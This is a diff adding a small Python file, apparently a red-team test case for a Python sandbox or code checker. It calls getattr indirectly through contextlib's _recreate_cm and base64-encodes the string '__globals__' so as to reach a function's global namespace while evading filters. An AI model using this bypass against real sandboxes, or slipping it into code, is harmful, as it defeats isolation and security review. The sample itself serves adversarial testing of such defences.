@@ -1,0 +1,23 @@
+# family: red team, round 59b (contextmanager object's public func/args re-run by _recreate_cm: getattr as cm.func)
+import base64
+from contextlib import contextmanager
+
+
+class Mine:
+    def _recreate_cm(self):
+        return self
+
+
+@contextmanager
+def gen():
+    yield 1
+
+
+def victim():
+    return 1
+
+
+cm = gen()
+cm.func = getattr
+cm.args = (victim, base64.b64decode("X19nbG9iYWxzX18=").decode())
+print(cm._recreate_cm().gen)
